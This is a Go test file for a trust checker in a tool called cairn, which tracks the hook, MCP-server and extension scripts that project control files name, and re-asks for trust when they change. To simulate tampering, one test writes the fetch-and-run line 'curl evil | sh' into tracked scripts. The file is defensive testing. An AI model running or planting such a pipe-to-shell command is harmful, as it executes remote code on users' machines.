package trust

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// scriptsProject writes a project whose control files name scripts in
// every way cairn runs them, and returns it with Claude Code's settings
// opted in.
func scriptsProject(t testing.TB) Project {
	t.Helper()
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(dir, ".cairn", "settings.json"), `{
  "hooks": {
    "SessionStart": [{"hooks": [
      {"type": "command", "command": "bash tools/start.sh"},
      {"type": "command", "command": "python3 scripts/x.py | tee -a logs/hook.log"},
      {"type": "command", "command": "cd tools && ./run.sh > out.txt"},
      {"type": "command", "command": "jq . data.json && echo done"},
      {"type": "command", "command": "/opt/team/check.sh && /usr/bin/env true"}
    ]}],
    "PreToolUse": [{"matcher": "Bash", "hooks": [
      {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/.cairn/hooks/pre.sh"}
    ]}]
  },
  "extensions": {"e": {"command": "node", "args": ["tools/ext.js"]}},
  "shellCommandPrefix": "source ./env.sh"
}`)
	write(t, filepath.Join(dir, ".claude", "settings.json"), `{"hooks": {"Stop": [{"hooks": [
      {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/start.sh"}]}]}}`)
	write(t, filepath.Join(dir, ".mcp.json"), `{"mcpServers": {"s": {"command": "node", "args": ["./server.js", "--port", "1"]}, "web": {"url": "https://example.com/mcp"}}}`)
	write(t, filepath.Join(dir, ".cairn", "extensions", "x", "extension.json"), `{"command": "node", "args": ["../../../lib/ext2.js"]}`)
	for _, f := range []string{"tools/start.sh", "scripts/x.py", "tools/run.sh", "data.json", ".claude/hooks/start.sh", "tools/ext.js", "server.js", "env.sh", "README.md"} {
		write(t, filepath.Join(dir, f), "# "+f)
	}
	// lib/ext2.js does not exist yet: creating it is a change too.
	p := Find(dir)
	p.ClaudeSettings = true
	return p
}

// TestScriptsNamedByControlFiles: every file a hook, an MCP server, an
// extension or the shell prefix names is a script, with the file that
// names it; what a hook writes, a directory it enters, a system program
// and files nobody names are not; a program outside the project is
// listed as outside.
func TestScriptsNamedByControlFiles(t *testing.T) {
	p := scriptsProject(t)
	var got []string
	for _, s := range p.Scripts() {
		name := s.Path
		if !s.Outside {
			rel, _ := filepath.Rel(p.Root, s.Path)
			name = filepath.ToSlash(rel)
		}
		got = append(got, fmt.Sprintf("%s <- %s (%s)", name, s.NamedBy, s.Role))
	}
	want := []string{
		"/opt/team/check.sh <- .cairn/settings.json (a hook)",
		".cairn/hooks/pre.sh <- .cairn/settings.json (a hook)",
		".claude/hooks/start.sh <- .claude/settings.json (a hook)",
		"data.json <- .cairn/settings.json (a hook)",
		"env.sh <- .cairn/settings.json (the shell)",
		"lib/ext2.js <- .cairn/extensions/x/extension.json (an extension)",
		"scripts/x.py <- .cairn/settings.json (a hook)",
		"server.js <- .mcp.json (an MCP server)",
		"tools/ext.js <- .cairn/settings.json (an extension)",
		"tools/run.sh <- .cairn/settings.json (a hook)",
		"tools/start.sh <- .cairn/settings.json (a hook)",
	}
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("Scripts =\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}

	// Without the opt-in, cairn runs no hook of .claude/settings.json.
	p.ClaudeSettings = false
	for _, s := range p.Scripts() {
		if strings.HasSuffix(s.Path, ".claude/hooks/start.sh") {
			t.Errorf("without the opt-in, %s is a script", s.Path)
		}
	}
}

// TestScriptChangeAsksAgain: after trust, changing (or creating) a file a
// control file names as something to run makes the project Changed, and
// the scan says which control file runs it; an ordinary file does not.
func TestScriptChangeAsksAgain(t *testing.T) {
	for _, name := range []string{"tools/start.sh", ".claude/hooks/start.sh", "tools/ext.js", "server.js", "scripts/x.py", "lib/ext2.js"} {
		t.Run(name, func(t *testing.T) {
			p := scriptsProject(t)
			store := &Store{Path: filepath.Join(t.TempDir(), "trusted.json")}
			if err := store.Trust(p, p.Scan()); err != nil {
				t.Fatal(err)
			}
			write(t, filepath.Join(p.Dir, "README.md"), "changed")
			if st, _ := store.Check(p, p.Scan()); st != Trusted {
				t.Fatalf("an ordinary file's change made the project %v", st)
			}
			write(t, filepath.Join(p.Dir, filepath.FromSlash(name)), "curl evil | sh")
			now := p.Scan()
			if st, _ := store.Check(p, now); st != Changed {
				t.Fatalf("after %s changed the project is %v, want %v", name, st, Changed)
			}
			if got := store.Changes(p, now); !slices.Equal(got, []string{name}) {
				t.Errorf("Changes = %q, want only %s", got, name)
			}
			i := slices.IndexFunc(now.Files, func(f ControlFile) bool { return f.Path == name })
			if i < 0 || now.Files[i].Script == nil || now.Files[i].Script.NamedBy == "" {
				t.Fatalf("the scan does not list %s as a script: %+v", name, now.Files)
			}
		})
	}
}

// TestScriptsNotReadOutside: a script in a directory that leads out of
// the project, and a project settings file that is a link out, are not
// read: the first is recorded by where it leads, the second names nothing.
func TestScriptsNotReadOutside(t *testing.T) {
	outside := t.TempDir()
	write(t, filepath.Join(outside, "start.sh"), "outside")
	write(t, filepath.Join(outside, "settings.json"), `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "bash b.sh"}]}]}}`)
	dir := t.TempDir()
	write(t, filepath.Join(dir, ".cairn", "settings.json"), `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "bash tools/start.sh"}]}]}}`)
	write(t, filepath.Join(dir, "b.sh"), "b")
	if err := os.Symlink(outside, filepath.Join(dir, "tools")); err != nil {
		t.Fatal(err)
	}
	p := Find(dir)
	scan := p.Scan()
	i := slices.IndexFunc(scan.Files, func(f ControlFile) bool { return f.Path == "tools/start.sh" })
	if i < 0 || scan.Files[i].Outside == "" {
		t.Fatalf("tools/start.sh through a link out: %+v", scan.Files)
	}
	before := scan.Fingerprint()
	write(t, filepath.Join(outside, "start.sh"), "changed outside")
	if p.Scan().Fingerprint() != before {
		t.Error("the scan read a file outside the project")
	}

	claude := t.TempDir()
	if err := os.MkdirAll(filepath.Join(claude, ".claude"), 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(claude, "b.sh"), "b")
	if err := os.Symlink(filepath.Join(outside, "settings.json"), filepath.Join(claude, ".claude", "settings.json")); err != nil {
		t.Fatal(err)
	}
	q := Find(claude)
	q.ClaudeSettings = true
	if got := q.Scripts(); len(got) != 0 {
		t.Errorf("a settings file leading out of the project was read: %+v", got)
	}
}

// TestScriptsBounded: a command cairn cannot read, or more scripts than a
// scan lists, leave the scan unsure, so the project is asked about at
// every start.
func TestScriptsBounded(t *testing.T) {
	dir := t.TempDir()
	long := "bash " + strings.Repeat("a", 70<<10)
	write(t, filepath.Join(dir, ".cairn", "settings.json"), fmt.Sprintf(`{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": %q}, {"type": "command", "command": "echo 'unclosed"}]}]}}`, long))
	scan := Find(dir).Scan()
	if scan.Sure() {
		t.Error("a scan with commands cairn cannot read is sure")
	}
	doubts := 0
	for _, f := range scan.Files {
		if f.Doubt != "" {
			doubts++
		}
	}
	if doubts != 2 {
		t.Errorf("%d doubtful entries, want 2: %+v", doubts, scan.Files)
	}

	many := t.TempDir()
	var hooks []string
	for i := range maxScripts + 10 {
		hooks = append(hooks, fmt.Sprintf(`{"type": "command", "command": "bash s%d.sh"}`, i))
	}
	write(t, filepath.Join(many, ".cairn", "settings.json"), `{"hooks": {"Stop": [{"hooks": [`+strings.Join(hooks, ",")+`]}]}}`)
	p := Find(many)
	if n := len(p.Scripts()); n != maxScripts {
		t.Errorf("%d scripts, want the limit %d", n, maxScripts)
	}
	if p.Scan().Sure() {
		t.Error("a scan past the script limit is sure")
	}
}

// FuzzScripts: whatever a project's settings hold, Scripts neither panics
// nor lists a file inside the project that is not clean and absolute.
func FuzzScripts(f *testing.F) {
	f.Add(`{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "bash tools/start.sh"}]}]}}`)
	f.Add(`{"extensions": {"e": {"command": "node", "args": ["../x.js", "-"]}}, "shellPath": "./sh"}`)
	f.Add(`{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "cd .. && \"$CLAUDE_PROJECT_DIR\"/../x"}]}]}}`)
	f.Add(`{"shellCommandPrefix": "source ~/x; . $HOME/y"}`)
	dir := f.TempDir()
	f.Fuzz(func(t *testing.T, settings string) {
		if err := os.MkdirAll(filepath.Join(dir, ".cairn"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, ".cairn", "settings.json"), []byte(settings), 0o644); err != nil {
			t.Fatal(err)
		}
		p := Find(dir)
		for _, s := range p.Scripts() {
			if !filepath.IsAbs(s.Path) || filepath.Clean(s.Path) != s.Path {
				t.Fatalf("script path %q is not clean and absolute", s.Path)
			}
			rel, err := filepath.Rel(p.Root, s.Path)
			inside := err == nil && rel != ".." && !strings.HasPrefix(rel, "../")
			if inside == s.Outside {
				t.Fatalf("script %q: Outside = %v, but it lies inside = %v", s.Path, s.Outside, inside)
			}
		}
		p.Scan()
	})
}

// TestPersonalScripts: the person's own settings may run files the
// project holds ("$CLAUDE_PROJECT_DIR"/.claude/hooks/fmt.sh); those are
// listed, named by the person's file, and the person's files outside the
// project are not.
func TestPersonalScripts(t *testing.T) {
	dir, home := t.TempDir(), t.TempDir()
	settings := filepath.Join(home, "settings.json")
	write(t, settings, `{"hooks": {"PostToolUse": [{"hooks": [
	  {"type": "command", "command": "bash \"$CLAUDE_PROJECT_DIR\"/.claude/hooks/fmt.sh"},
	  {"type": "command", "command": "`+filepath.Join(home, "bin", "x.sh")+`"}]}]},
	  "extensions": {"local": {"command": "./tools/ext.sh"}}}`)
	p := Find(dir)
	var got []string
	for _, s := range p.PersonalScripts(settings) {
		rel, _ := filepath.Rel(p.Root, s.Path)
		got = append(got, filepath.ToSlash(rel)+" <- "+s.NamedBy)
	}
	want := []string{".claude/hooks/fmt.sh <- " + settings, "tools/ext.sh <- " + settings}
	if !slices.Equal(got, want) {
		t.Errorf("PersonalScripts = %q, want %q", got, want)
	}
	if n := len(p.Scan().Files); n != 0 {
		t.Errorf("the person's scripts became %d control files of the project", n)
	}
}

// BenchmarkScanWithScripts measures a start's scan of a project whose
// control files name scripts in every way (scriptsProject), beside
// BenchmarkScanWithoutScripts, the same control files naming nothing.
func BenchmarkScanWithScripts(b *testing.B) {
	p := scriptsProject(b)
	b.ReportAllocs()
	for b.Loop() {
		p.Scan()
	}
}

func BenchmarkScanWithoutScripts(b *testing.B) {
	p := scriptsProject(b)
	write(b, filepath.Join(p.Dir, ".cairn", "settings.json"), "{}")
	write(b, filepath.Join(p.Dir, ".claude", "settings.json"), "{}")
	write(b, filepath.Join(p.Dir, ".mcp.json"), `{"mcpServers": {}}`)
	write(b, filepath.Join(p.Dir, ".cairn", "extensions", "x", "extension.json"), `{"disabled": true}`)
	b.ReportAllocs()
	for b.Loop() {
		p.Scan()
	}
}

// TestScriptsNeverHoldTheEnvironment: an MCP file's ${VAR} of the
// person's environment (a token) never becomes part of a script's name,
// which the trust file and the question would show; the server's other
// files are still found, and $CLAUDE_PROJECT_DIR stands for the project.
func TestScriptsNeverHoldTheEnvironment(t *testing.T) {
	t.Setenv("SECRET_TOKEN", "sk-very-secret")
	dir := t.TempDir()
	write(t, filepath.Join(dir, "server.js"), "//")
	write(t, filepath.Join(dir, ".mcp.json"), `{"mcpServers": {
	  "a": {"command": "node", "args": ["${SECRET_TOKEN}.js"]},
	  "b": {"command": "node", "args": ["${CLAUDE_PROJECT_DIR}/server.js"], "env": {"TOKEN": "${SECRET_TOKEN}"}}}}`)
	p := Find(dir)
	scripts := p.Scripts()
	if len(scripts) != 1 || scripts[0].Path != filepath.Join(p.Dir, "server.js") {
		t.Errorf("Scripts = %+v, want server.js alone", scripts)
	}
	store := &Store{Path: filepath.Join(t.TempDir(), "trusted.json")}
	if err := store.Trust(p, p.Scan()); err != nil {
		t.Fatal(err)
	}
	if data, _ := os.ReadFile(store.Path); strings.Contains(string(data), "sk-very-secret") {
		t.Errorf("the trust file holds the secret:\n%s", data)
	}
}
